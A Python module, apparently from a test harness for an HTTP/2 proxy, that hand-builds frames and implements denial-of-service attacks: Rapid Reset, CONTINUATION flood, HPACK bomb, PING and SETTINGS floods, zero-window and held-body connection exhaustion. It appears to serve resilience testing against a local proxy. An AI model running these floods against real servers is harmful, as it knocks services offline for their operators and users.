"""Attacks over HTTP/2 (RFC 9113), frame by frame, by a client that is admitted."""
import struct
import time

from net import PATH, context, hold, secured, source

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def fields(path):
    """RFC 7541: POST, https, then path and authority as literals."""
    return b"\x83\x87\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"


FIELDS = fields(PATH)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def preface(settings=b""):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings)


def flood(run, piece, settings=b"", pause=0.0):
    """Sends pieces on one connection after the other, as fast as the proxy takes them; reads nothing."""
    tls, sent, connections = context(run.certs, "client-rsa", "h2"), 0, 0
    while time.monotonic() < run.end:
        try:
            with secured(tls, run.port, source(connections)) as one:
                connections += 1
                one.sendall(preface(settings))
                number = 0
                while time.monotonic() < run.end:
                    data = piece(number)
                    if data:
                        one.sendall(data)
                        sent += len(data)
                    number += 1
                    time.sleep(pause)
        except OSError:
            pass
    return f"{connections} connections, {sent // 1024} KiB"


def rapid_reset(run):
    def piece(number):
        pairs = b""
        for place in range(100):
            stream = 2 * (number * 100 + place) + 1
            pairs += frame(HEADERS, END_STREAM | END_HEADERS, stream, FIELDS)
            pairs += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        return pairs
    return flood(run, piece)


def continuation(run):
    field = b"\0\x01x\x7f\x81\x7c" + b"y" * 16_000
    def piece(number):
        first = frame(HEADERS, END_STREAM, 1, FIELDS) if number == 0 else b""
        return first + frame(CONTINUATION, 0, 1, field)
    return flood(run, piece)


def hpack_bomb(run):
    bomb = FIELDS + b"\x40\x01x\x7f\xb9\x16" + b"y" * 3000 + bytes([0x80 | 62]) * 15_000
    def piece(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_STREAM, stream, bomb[:16_000]) + frame(CONTINUATION, END_HEADERS, stream, bomb[16_000:])
    return flood(run, piece)


def pings(run):
    return flood(run, lambda number: frame(PING, 0, 0, b"12345678") * 500)


def settings(run):
    return flood(run, lambda number: frame(SETTINGS, 0, 0) * 500)


def zero_window(run):
    # SETTINGS_INITIAL_WINDOW_SIZE = 0: no answer can be sent.
    tls = context(run.certs, "client-rsa", "h2")
    streams = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, FIELDS) for n in range(100))
    def opened(number):
        one = secured(tls, run.port, source(number))
        one.sendall(preface(struct.pack(">HI", 4, 0)) + streams)
        return one
    return hold(run.end, 100, opened, frame(PING, 0, 0, b"12345678"))


def stream_window(settings):
    """SETTINGS_INITIAL_WINDOW_SIZE in the proxy's first frame, SETTINGS (RFC 9113 section 6.5)."""
    length = int.from_bytes(settings[:3])
    pairs = [struct.unpack(">HI", settings[at:at + 6]) for at in range(9, 9 + length, 6)]
    return dict(pairs).get(4, 65_535)


def held_bodies(run):
    """Bodies of requests whose upstream takes no connection, as many bytes of each as the proxy lets come. All are of
    one identity, which may have 256 requests under way."""
    tls = context(run.certs, "client-rsa", "h2")
    head = frame(HEADERS, END_HEADERS, 1, fields(b"/stuck/x"))
    def opened(number):
        one = secured(tls, run.port, source(number))
        one.sendall(preface())
        # The window holds once the proxy's SETTINGS are acknowledged.
        window = min(stream_window(one.recv(1000)), 1024 * 1024)
        body = frame(DATA, 0, 1, b"x" * 16_384) * (window // 16_384)
        one.sendall(frame(SETTINGS, ACK, 0) + head + body)
        return one
    return hold(run.end, 256, opened)
